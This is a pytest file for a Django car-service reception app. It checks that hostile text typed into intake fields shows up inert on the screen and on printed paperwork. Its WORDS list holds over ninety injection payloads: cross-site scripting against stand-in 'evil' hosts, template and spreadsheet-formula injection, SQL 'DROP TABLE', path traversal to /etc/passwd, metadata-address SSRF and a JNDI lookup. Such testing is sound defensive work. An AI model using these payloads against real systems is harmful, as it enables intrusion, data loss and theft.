"""Hostile words in every field of the intake: they are shown as they are, and do nothing anywhere."""

from datetime import UTC
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from reception import operations
from tests import factories
from tests.factories import TUESDAY_NINE

FIELDS = {
    "belongings": ("belongings", {}, "belongings"),
    "valuables": ("valuables", {"answer": "returned"}, "valuables_list"),
    "along": ("along", {"accompanied": "yes"}, "brought_by"),
    "unaccompanied": ("along", {"accompanied": "no"}, "unaccompanied_reason"),
    "mileage": ("mileage", {"mileage": "1"}, "mileage_note"),
    "vin": ("vin", {"source": "windscreen", "vin": "x"}, "reason"),
}
WORDS = [
    "<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)", "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<form action=//evil><input name=csrfmiddlewaretoken>", "<link rel=stylesheet href=//evil>", "</dl></section><h1>",
    "<!--", "-->", "<![CDATA[<script>]]>", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;",
    "%3Cscript%3E",
    "{{ 7*7 }}", "{% load static %}", "{% csrf_token %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil\")", "=cmd|'/C calc'!A0", "\t=1+1", "DDE(\"cmd\")",
    "' OR 1=1 --", "'; DROP TABLE reception_visit; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "../../etc/passwd",
    "\\..\\..\\windows", "file:///etc/passwd", "http://169.254.169.254/", "ldap://evil/a", "${jndi:ldap://evil}",
    "\u202eexe.gpj", "\u200b\u200b", "\u2066x\u2069", "a\u0301" * 60, "Z\u0363\u036a" * 30, "𝕳𝖊𝖑𝖑𝖔", "🚗" * 40,
    "\ufeffx", "\u0000x", "x\u0000", "\x08\x1b[31m", "\r\nSet-Cookie: a=b", "a\nb\nc", "\u2028alert(1)\u2029",
    "长" * 200, "W" * 200, "<" * 100, "&" * 100, "\"" * 100, "'" * 100, "\\" * 100, "`alert(1)`", "data:text/html,x",
    "hx-get=/x", "<div hx-get=/admin hx-trigger=load>", "<template><script>1</script></template>", "<noscript><p>",
    "<style>*{display:none}</style>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>\">", "<object data=//evil>",
    "<embed src=//evil>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<img src=//evil/pixel.gif>",
    "<button formaction=//evil>", "<isindex action=//evil>", "<p id=progress data-place=visit-1>", "<b id=said>",
    "<svg><use href=//evil#x>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>", "<svg><foreignObject>",
    "<style>@import '//evil'</style>", "<x contenteditable onbeforeinput=alert(1)>", "<dialog open>", "<slot name=x>",
]  # fmt: skip


class Skeleton(HTMLParser):
    """The elements of a page and the names of their attributes, without any text."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, *sorted(name for name, _value in attrs)))

    handle_startendtag = handle_starttag


def skeleton(answer):
    return Skeleton(answer.content.decode()).found


@pytest.fixture
def tuesday(desk, monday, crew):
    monday.move_to(TUESDAY_NINE.astimezone(UTC), tick=False)
    desk.force_login(crew.service_advisor)
    return desk


def plain(words):
    """Say whether a payload stays on one line: a new line is one more element of the page."""
    return not set(words) & set("\n\r\u2028\u2029\x0b\x0c\x85")


def send(desk, visit, what, **form):
    return desk.post(reverse("reception:press", args=[visit.pk, what]), form, headers={"HX-Request": "true"})


def whole(desk, crew, lines):
    """Say these lines as a customer on a new visit; return how many were kept, and screen and paper bare."""
    visit = factories.receiving(crew)
    for said in lines:
        answer = send(desk, visit, "complaint", words=said, conditions=said[:200])
        assert answer.status_code in {200, 422}, said
    screen = desk.get(reverse("reception:intake", args=[visit.pk]))
    operations.sign_intake(visit, outcome=factories.drawn(), by=crew.service_advisor, at=TUESDAY_NINE)
    paper = desk.get(reverse("paperwork:document", args=[visit.intake.pk]))
    assert screen.status_code == paper.status_code == 200
    return visit.complaints.count() - 1, skeleton(screen), skeleton(paper)


def test_hostile_complaints_are_inert_on_the_screen_and_on_paper(tuesday, crew):
    """As many plain lines make the same page: no element, no attribute more."""
    kept, screen, paper = whole(tuesday, crew, [words for words in WORDS if plain(words)])
    assert kept > 80
    again, plain_screen, plain_paper = whole(tuesday, crew, [f"平常的话 {n}" for n in range(kept)])
    assert again == kept
    assert screen == plain_screen
    assert paper == plain_paper


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_answers_are_inert_beside_their_fields(tuesday, crew, field):
    """Every third payload for each field; what is refused is shown again as it was typed."""
    what, rest, name = FIELDS[field]
    visit = factories.receiving(crew)
    address = reverse("reception:intake", args=[visit.pk])
    shapes = set()
    for words in ["平常的话", *WORDS[list(FIELDS).index(field) % 3 :: 3]]:
        part = send(tuesday, visit, what, **rest, **{name: words})
        assert part.status_code in {200, 422}, words
        if not words.strip() or not plain(words) or "\0" in words or len(words) > 80:
            continue
        shapes.add((part.status_code, tuple(skeleton(part)), tuple(skeleton(tuesday.get(address)))))
    assert len(shapes) == 1, "each of them makes the same page as plain words do"


def test_new_lines_and_what_reads_backwards_do_not_break_the_page(tuesday, crew):
    visit = factories.receiving(crew)
    for words in [words for words in WORDS if not plain(words)]:
        assert send(tuesday, visit, "complaint", words=words).status_code in {200, 422}
    page = tuesday.get(reverse("reception:intake", args=[visit.pk]))
    assert page.status_code == 200
    assert ("script",) not in {entry[:1] for entry in skeleton(page) if "src" not in entry}


def test_there_are_more_than_ninety_payloads():
    assert len(WORDS) == len(set(WORDS)) > 90
